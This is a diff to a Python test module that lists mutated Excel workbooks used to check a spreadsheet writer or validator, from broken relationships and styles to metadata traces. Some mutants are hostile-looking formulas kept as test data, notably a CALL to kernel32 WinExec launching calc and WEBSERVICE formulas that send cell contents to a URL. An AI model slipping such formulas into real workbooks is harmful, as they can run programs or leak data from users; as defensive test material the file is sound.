@@ -9,9 +9,11 @@ from tests.verifying.changes import (
     content,
     deleted,
     doubled,
+    exchanged,
     in_workbook,
     inserted,
     removed,
+    renamed,
     text,
 )
 from tests.verifying.mutable import OFFICE, Change, Mutable
@@ -21,7 +23,12 @@ BOOK = "workbook:line"
 _SHEET = "xl/worksheets/sheet1.xml"
 _WORKBOOK = "xl/workbook.xml"
 _STRINGS = "xl/sharedStrings.xml"
+_STYLES = "xl/styles.xml"
+_APP = "docProps/app.xml"
+_TYPES = "[Content_Types].xml"
+_RELATIONSHIPS = "xl/_rels/workbook.xml.rels"
 _CELL = "//s:c[@r='B2']"
+_CHART_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.chartsheet+xml"
 _OLD = bytes.fromhex("D0CF11E0A1B11AE1") + bytes(504)
 
 
@@ -86,7 +93,52 @@ MUTANTS: dict[str, Change] = {
     "workbook-formula-of-a-path": formula("'C:\\Users\\someone\\[data.xlsx]Sheet1'!A1"),
     "workbook-formula-of-a-server": formula('RTD("server",,"x")'),
     "workbook-formula-of-a-macro": formula('CALL("kernel32","WinExec","JCJ","calc",0)'),
+    "workbook-formula-that-fetches-in-small-letters": formula('webservice("http://e/"&A1)'),
+    "workbook-formula-that-fetches-behind-a-blank": formula('WEBSERVICE ("http://example.org")'),
+    "workbook-formula-that-is-a-name": formula("cmd"),
+    "workbook-formula-of-a-made-up-place": formula('INDIRECT("A"&1)'),
+    "workbook-formula-of-another-sheet": formula("Other!A1"),
+    "workbook-formula-with-a-text-that-does-not-end": formula('TEXT(A1,"0)'),
+    "workbook-formula-of-a-table-of-data": inside(
+        inserted(_SHEET, _CELL, '<s:f t="dataTable" ref="B2:B3" r1="A1">A1</s:f>')
+    ),
     "workbook-link": inside(linked),
+    "workbook-sheet-that-is-not-there-too": inside(
+        appended(
+            _RELATIONSHIPS, "/*", f'<rel:Relationship Id="rId9" Type="{OFFICE}/worksheet" Target="worksheets/2.xml"/>'
+        )
+    ),
+    "workbook-sheet-that-is-not-there": inside(
+        attribute(_RELATIONSHIPS, "rel:Relationship[1]", "Target", "worksheets/sheet2.xml")
+    ),
+    "workbook-relationship-to-the-outside": inside(
+        attribute(_RELATIONSHIPS, "rel:Relationship[1]", "TargetMode", "External")
+    ),
+    "workbook-relationship-twice": inside(doubled(_RELATIONSHIPS, "rel:Relationship[2]")),
+    "workbook-relationship-missing": inside(removed(_RELATIONSHIPS, "rel:Relationship[3]")),
+    "workbook-sheet-by-no-relationship": inside(attribute(_WORKBOOK, "//s:sheet", "r:id", "rId77")),
+    "workbook-sheet-by-the-relationship-of-the-styles": inside(attribute(_WORKBOOK, "//s:sheet", "r:id", "rId3")),
+    "workbook-sheet-typed-as-a-chart": inside(
+        attribute(_TYPES, f"ct:Override[@PartName='/{_SHEET}']", "ContentType", _CHART_SHEET)
+    ),
+    "workbook-types-too-many": inside(
+        appended(_TYPES, "/*", '<ct:Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')
+    ),
+    "workbook-type-missing": inside(removed(_TYPES, f"ct:Override[@PartName='/{_STYLES}']")),
+    "workbook-row-twice": inside(attribute(_SHEET, "//s:row[2]", "r", "1")),
+    "workbook-rows-out-of-order": inside(exchanged(_SHEET, "//s:row[2]")),
+    "workbook-cells-out-of-order": inside(exchanged(_SHEET, "//s:row[2]/s:c[1]")),
+    "workbook-cell-of-another-row": inside(attribute(_SHEET, _CELL, "r", "B9")),
+    "workbook-cell-of-another-type": inside(attribute(_SHEET, _CELL, "t", "x")),
+    "workbook-fonts-missing": inside(removed(_STYLES, "//s:fonts")),
+    "workbook-fonts-miscounted": inside(attribute(_STYLES, "//s:fonts", "count", "7")),
+    "workbook-look-that-is-not-there": inside(attribute(_SHEET, _CELL, "s", "999")),
+    "workbook-font-that-is-not-there": inside(attribute(_STYLES, "//s:cellXfs/s:xf[1]", "fontId", "9")),
+    "workbook-number-format-that-is-not-there": inside(attribute(_STYLES, "//s:cellXfs/s:xf[2]", "numFmtId", "999")),
+    "workbook-theme-with-a-picture": inside(
+        inserted("xl/theme/theme1.xml", "//a:fillStyleLst", '<a:blipFill><a:blip r:embed="rId1"/></a:blipFill>')
+    ),
+    "workbook-theme-that-is-something-else": inside(renamed("xl/theme/theme1.xml", "/a:theme", "a:themes")),
     "workbook-macros": part(
         "xl/vbaProject.bin",
         b"x",
@@ -128,6 +180,13 @@ MUTANTS: dict[str, Change] = {
     ),
     "workbook-name-of-its-maker": inside(text("docProps/core.xml", "//dc:creator", "someone")),
     "workbook-moment-of-its-making": inside(text("docProps/core.xml", "//dcterms:created", "2026-11-28T06:20:50Z")),
+    "workbook-manager": inside(appended(_APP, "/*", "<ep:Manager>root@host</ep:Manager>")),
+    "workbook-company": inside(text(_APP, "//ep:Company", "Somewhere")),
+    "workbook-application-of-the-machine": inside(text(_APP, "//ep:Application", "/home/someone/excel")),
+    "workbook-title": inside(appended("docProps/core.xml", "/*", "<dc:title>2026-11-28T00:00:00Z</dc:title>")),
+    "workbook-trace-comment": inside(
+        content(_SHEET, lambda data: data.replace(b"<sheetData>", b"<!-- /home/someone --><sheetData>", 1))
+    ),
     "workbook-hidden-sheet": inside(attribute(_WORKBOOK, "//s:sheet", "state", "veryHidden")),
     "workbook-comment": inside(appended(_SHEET, "//s:worksheet", '<s:legacyDrawing r:id="rId99"/>')),
 }
@@ -136,12 +195,21 @@ LAWFUL = {
     "workbook-time-of-the-build": "allowed; it tells when the deck was built",
     "workbook-name-of-its-maker": "allowed; it tells who built the deck",
     "workbook-moment-of-its-making": "allowed; it tells when the deck was built",
+    "workbook-manager": "allowed; it tells of whoever built it",
+    "workbook-company": "allowed; it tells of whoever built it",
+    "workbook-application-of-the-machine": "allowed; it tells a path of the machine",
+    "workbook-title": "allowed; it tells when the deck was built",
+    "workbook-trace-comment": "allowed by XML; the writer makes none",
+    "workbook-types-too-many": "allowed; the writer gives no such type",
     "workbook-path-of-its-maker": "allowed, and Excel writes it; it tells a path of the machine",
     "workbook-hidden-sheet": "at least one sheet has to be visible, says Excel alone",
 } | dict.fromkeys(
     (
         "workbook-formula-that-links",
         "workbook-formula-that-fetches",
+        "workbook-formula-that-fetches-in-small-letters",
+        "workbook-formula-that-fetches-behind-a-blank",
+        "workbook-formula-of-a-made-up-place",
         "workbook-formula-of-a-server",
         "workbook-link",
         "workbook-name-that-runs",
